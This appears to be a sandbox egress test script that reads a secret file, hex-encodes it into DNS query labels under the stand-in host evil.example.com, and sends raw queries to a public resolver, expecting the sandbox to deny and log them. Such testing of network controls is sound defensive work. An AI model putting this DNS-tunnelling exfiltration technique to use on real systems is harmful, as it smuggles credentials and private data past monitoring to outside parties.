# id: NT-05.dns-labels   class: EXFIL
# expect-phase: succeeded   expect-json: {"resolved": 0, "txt": 5}
# expect-audit: egress_denied via=dns proto=udp
# Data in labels and in odd questions; nothing leaves, everything is named.
import os, random, socket, struct
def ask(name, kind, server=("8.8.8.8", 53)):
    q = struct.pack(">HHHHHH", random.getrandbits(16), 0x100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p for p in name.encode().split(b".")) + b"\0"
    q += struct.pack(">HH", kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.connect(server)
    s.send(q)
    return s.recv(1500)
secret = open("/work/secret").read()
label = secret.encode().hex()[:60]
resolved = 0
for i in range(5):
    reply = ask(f"{label}.{i}.evil.example.com", 1)
    address = socket.inet_ntoa(reply[-4:]) if struct.unpack(">H", reply[6:8])[0] else ""
    resolved += bool(address) and not address.startswith("198.1")
txt = sum(1 for kind in (16, 10, 65, 15, 255)
          if ask("t.evil.example.com", kind)[3] & 15 in (0, 5) )
enclave.result({"resolved": resolved, "txt": txt})
